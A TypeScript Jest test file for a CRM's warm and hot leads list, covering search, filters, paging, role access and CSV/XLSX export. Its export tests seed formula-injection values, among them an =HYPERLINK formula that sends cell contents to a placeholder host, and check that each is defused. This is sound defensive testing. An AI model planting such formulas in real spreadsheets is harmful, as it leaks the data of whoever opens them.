import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { LeadMove, WarmHotPage } from '../../../contracts/src/index.js';
import type { HttpClient } from '../../support/http.js';
import { before, DAY, HOUR, NOW, openOffice, type Office, type ReportingDesk } from './reporting-desk.js';

let desk: ReportingDesk;
let office: Office;
let administrator: HttpClient;
let opened: Awaited<ReturnType<typeof openOffice>>;

beforeAll(async () => {
  opened = await openOffice();
  ({ desk, office, administrator } = opened);
});
afterAll(() => opened.close());

const page = (query = '', client = administrator) => client.get<WarmHotPage>(`/api/warm-hot${query}`);
const named = async (query: string) => (await page(query)).items.map(({ name }) => name);

describe('the list of warm and hot leads', () => {
  it('shows answers, note, contact, operator, result, callback and when the lead cools', async () => {
    const lead = await desk.lead(office, { name: 'Tverglass', temperature_at: before(HOUR) });
    const contactId = await desk.insert('contacts', {
      ...{ lead_id: lead.leadId, full_name: 'Elena Moroz', position: 'Director', created_at: NOW },
    });
    await desk.talk(office, lead, {
      at: before(3 * DAY),
      fields: { volume: 12_000, pain: 'delays' },
      note: 'Two delays.',
    });
    const attemptId = await desk.talk(office, lead, { at: before(HOUR), fields: { volume: 40_000 }, contactId });
    await desk.move(lead.leadId, {
      campaign_id: office.campaignId,
      attempt_id: attemptId,
      step_id: 'offer',
      by_user_id: office.operatorId,
    });

    const { items } = await page('?q=Tverglass');
    expect(items).toEqual([
      {
        leadId: lead.leadId,
        name: 'Tverglass',
        city: 'Tver',
        zone: 'Asia/Yekaterinburg',
        temperature: 'hot',
        stage: 'open',
        since: before(HOUR).toISOString(),
        contact: { name: 'Elena Moroz', position: 'Director' },
        phone: expect.stringMatching(/^\+7921/),
        answers: [
          {
            label: { ru: 'Объём, штук в месяц', en: 'Volume, pieces a month' },
            value: expect.stringMatching(/^40.?000$/),
          },
          { label: { ru: 'Что не устраивает', en: 'What is wrong now' }, value: 'Late deliveries' },
        ],
        note: 'Two delays.',
        operatorName: 'Anna Ivanova',
        dispositionCode: 'interested',
        lastCallAt: before(HOUR).toISOString(),
        attemptId,
        nextStep: null,
        coolsAt: new Date(before(HOUR).getTime() + 14 * DAY).toISOString(),
        handover: null,
      },
    ]);

    const dueAt = new Date(NOW.getTime() + DAY);
    await desk.insert('callbacks', {
      ...{ campaign_id: office.campaignId, lead_id: lead.leadId, phone_id: lead.phoneId, due_at: dueAt },
      ...{ zone: 'Asia/Yekaterinburg', created_at: NOW },
    });
    const [row] = (await page('?q=Tverglass')).items;
    expect(row?.nextStep).toEqual({ kind: 'callback', dueAt: dueAt.toISOString(), zone: 'Asia/Yekaterinburg' });
    expect(row?.coolsAt).toBeNull();

    const moves = await administrator.get<LeadMove[]>(`/api/leads/${lead.leadId}/moves`);
    expect(moves).toEqual([
      {
        ...{
          fromTemperature: 'cold',
          toTemperature: 'hot',
          fromStage: 'open',
          toStage: 'open',
          reason: 'interested',
          note: null,
        },
        ...{ at: before(HOUR).toISOString(), byName: 'Anna Ivanova', stepId: 'offer', attemptId },
      },
    ]);
  });

  it('keeps cold, closed and merged leads out, and is found by company, contact and number', async () => {
    await desk.lead(office, { name: 'Kuban cold', temperature: 'cold' });
    await desk.lead(office, { name: 'Kuban refused', stage: 'refused' });
    const { leadId } = await desk.lead(office, { name: 'Kuban Works' });
    await desk.lead(office, { name: 'Kuban merged', merged_into: leadId });
    await desk.insert('contacts', { lead_id: leadId, full_name: 'Pavel Ryzhov', created_at: NOW });
    const [row] = (await page('?q=kuban')).items;
    expect(await named('?q=kuban')).toEqual(['Kuban Works']);
    expect(await named('?q=ryzhov')).toEqual(['Kuban Works']);
    expect(await named(`?q=${encodeURIComponent(row?.phone?.replace('+7', '8 ') ?? '')}`)).toEqual(['Kuban Works']);
    expect(await named('?q=%25')).toEqual([]);
  });

  it('filters by temperature, handover and cooling, and counts each', async () => {
    const { campaignId } = office;
    const filtered = async (name: string, values: Record<string, unknown>, handover?: Record<string, unknown>) => {
      const { leadId } = await desk.lead(office, { name, ...values });
      const entry = { campaign_id: campaignId, lead_id: leadId, state: 'finished', reason: 'done', updated_at: NOW };
      await desk.insert('queue_entries', entry);
      const offer = { lead_id: leadId, to_name: 'Gleb', offered_by: office.operatorId, offered_at: before(2 * HOUR) };
      if (handover !== undefined) await desk.insert('handovers', { ...offer, ...handover });
    };
    await filtered('F waits', { temperature_at: before(26 * HOUR) });
    await filtered('F offered', { temperature_at: before(26 * HOUR) }, { state: 'offered' });
    await filtered('F rejected', {}, { state: 'rejected', reason: 'not my region', answered_at: before(HOUR) });
    await filtered('F deal', { stage: 'customer' }, { state: 'deal', answered_at: before(DAY) });
    await filtered('F old deal', { stage: 'customer' }, { state: 'deal', answered_at: before(8 * DAY) });
    await filtered('F cools', { temperature: 'warm', temperature_at: before(57 * DAY) });
    await filtered('F withdrawn', { temperature: 'warm' }, { state: 'withdrawn', answered_at: before(HOUR) });

    const of = (filter: string) => named(`?campaignId=${campaignId}&filter=${filter}`);
    expect(await of('all')).toEqual(['F deal', 'F rejected', 'F offered', 'F waits', 'F withdrawn', 'F cools']);
    expect(await of('hot')).toEqual(['F deal', 'F rejected', 'F offered', 'F waits']);
    expect(await of('warm')).toEqual(['F withdrawn', 'F cools']);
    expect(await of('not_handed')).toEqual(['F waits', 'F withdrawn', 'F cools']);
    expect(await of('rejected')).toEqual(['F rejected']);
    expect(await of('cooling')).toEqual(['F cools']);
    const { counts } = await page(`?campaignId=${campaignId}&filter=hot`);
    expect(counts).toEqual({ all: 6, hot: 4, warm: 2, notHanded: 3, rejected: 1, cooling: 1, waitingOverDay: 1 });
    const [rejected] = (await page(`?campaignId=${campaignId}&filter=rejected`)).items;
    expect(rejected?.handover).toMatchObject({
      state: 'rejected',
      reason: 'not my region',
      to: { id: null, name: 'Gleb' },
    });
  });

  it('pages without gaps or repeats, also where leads became hot at the same instant', async () => {
    for (let index = 0; index < 5; index += 1) {
      await desk.lead(office, {
        name: `Page ${index}`,
        temperature: index < 3 ? 'hot' : 'warm',
        temperature_at: before(5 * HOUR),
      });
    }
    const all = await named('?q=Page&limit=200');
    const seen: string[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const part: WarmHotPage = await page(`?q=Page&limit=2${cursor === '' ? '' : `&cursor=${cursor}`}`);
      seen.push(...part.items.map(({ name }) => name));
      cursor = part.nextCursor;
    }
    expect(seen).toEqual(all);
    expect(seen).toEqual(['Page 2', 'Page 1', 'Page 0', 'Page 4', 'Page 3']);
    const refused = await administrator.request({ method: 'GET', path: '/api/warm-hot?cursor=nonsense' });
    expect(refused).toMatchObject({ status: 400, body: { code: 'request.invalid' } });
  });

  it('shows a salesperson of any role what was offered to him, and nothing to others', async () => {
    const seller = await opened.signIn('operator');
    const stranger = await opened.signIn('observer');
    const path = '/api/warm-hot';
    const refused = { status: 403, body: { code: 'role.refused' } };
    expect(await seller.client.request({ method: 'GET', path })).toMatchObject(refused);
    await desk.update('users', seller.me.id, { receives_handovers: true });
    expect((await page('', seller.client)).items).toEqual([]);

    const { leadId } = await desk.lead(office, { name: 'For the seller' });
    const offer = {
      lead_id: leadId,
      to_user_id: seller.me.id,
      to_name: 'S',
      offered_by: office.operatorId,
      offered_at: NOW,
    };
    const handoverId = await desk.insert('handovers', offer);
    const own = await page('', seller.client);
    expect(own.items.map(({ name }) => name)).toEqual(['For the seller']);
    expect(own.counts.all).toBe(1);
    const moves = `/api/leads/${leadId}/moves`;
    expect(await seller.client.get(moves)).toEqual([]);
    expect(await stranger.client.request({ method: 'GET', path })).toMatchObject(refused);
    expect(await stranger.client.request({ method: 'GET', path: moves })).toMatchObject({
      status: 404,
      body: { code: 'record.not_found' },
    });
    expect(await stranger.client.request({ method: 'GET', path: '/api/warm-hot/export?format=csv' })).toMatchObject(
      refused,
    );

    await desk.update('handovers', handoverId, { state: 'rejected', reason: 'no', answered_at: NOW });
    expect((await page('', seller.client)).items).toEqual([]);
    expect(await seller.client.request({ method: 'GET', path: moves })).toMatchObject({
      status: 404,
      body: { code: 'record.not_found' },
    });
  });
});

describe('an export', () => {
  const HOSTILE = '=HYPERLINK("http://example.test?"&A1;"click")';
  let csv: Buffer;
  let titles: string[];
  let cells: string[];

  beforeAll(async () => {
    const lead = await desk.lead(office, { name: HOSTILE, city: '@SUM(1+1)' });
    const contactId = await desk.insert('contacts', {
      lead_id: lead.leadId,
      full_name: '-2+3 "quoted"',
      created_at: NOW,
    });
    await desk.talk(office, lead, { fields: { supplier: '=1+1' }, note: '\tTab\r\nand "line"; and, comma', contactId });
    csv = await administrator.get<Buffer>('/api/warm-hot/export.csv?q=HYPERLINK&lang=ru');
    const rows = parse(csv, { bom: true, delimiter: ';' });
    titles = rows[0] ?? [];
    cells = rows[1] ?? [];
  });

  const cell = (title: string) => cells[titles.indexOf(title)];

  it('as CSV begins with a byte order mark, so that Excel reads it as UTF-8, and parts cells as a Russian Excel does', () => {
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(titles.slice(0, 3)).toEqual(['Температура', 'Компания', 'Город']);
  });

  it('holds no cell that a spreadsheet would run as a formula', () => {
    expect(cell('Компания')).toBe(`'${HOSTILE}`);
    expect(cell('Город')).toBe(`'@SUM(1+1)`);
    expect(cell('Контактное лицо')).toBe(`'-2+3 "quoted"`);
    expect(cell('Заметка')).toBe(`'\tTab\nand "line"; and, comma`);
    expect(cell('Результат звонка')).toBe(`'=Интерес`);
    const risky = cells.filter((text) => /^[=+\-@\t\r]/.test(text));
    expect(risky).toEqual([expect.stringMatching(/^\+7 921 \d{3}-\d\d-\d\d$/)]);
  });

  it('tells times by the clock of the organisation', () => {
    expect(cell('Звонок')).toBe('2026-03-18 13:30');
    expect(cell('Ответы')).toBe('Нынешний поставщик: =1+1');
  });

  it('is in English where the user is, with commas', async () => {
    const english = await administrator.get<Buffer>('/api/warm-hot/export?format=csv&q=HYPERLINK');
    const [header] = parse(english, { bom: true });
    expect(header?.slice(0, 3)).toEqual(['Temperature', 'Company', 'City']);
  });

  it('as XLSX holds the same rows as text', async () => {
    const { status, headers, body } = await administrator.request<Buffer>({
      method: 'GET',
      path: '/api/warm-hot/export.xlsx?q=HYPERLINK&lang=ru',
    });
    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toContain("filename*=UTF-8''");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const values = (row: number) => titles.map((_, at) => sheet?.getRow(row).getCell(at + 1).text ?? '');
    expect(sheet?.name).toBe('Тёплые и горячие');
    expect(values(1)).toEqual(titles);
    expect(values(2).map((text) => text.replaceAll('\r\n', '\n'))).toEqual(
      cells.map((text) => text.replaceAll('\r\n', '\n')),
    );
    expect(sheet?.getRow(2).getCell(2).type).not.toBe(ExcelJS.ValueType.Formula);
  });

  it('holds every row, however many pages that are', async () => {
    await desk.transaction.rows(
      `INSERT INTO leads (client_id, kind, name, temperature, temperature_at, created_at)
       SELECT $1, 'company', 'Bulk ' || n, 'warm', $2::timestamptz - n * interval '1 minute', $2 FROM generate_series(1, 450) n`,
      [office.clientId, NOW],
    );
    const rows = parse(await administrator.get<Buffer>('/api/warm-hot/export?format=csv&q=Bulk'), { bom: true });
    expect(new Set(rows.slice(1).map((row) => row[1])).size).toBe(450);
    expect(rows).toHaveLength(451);
  });
});
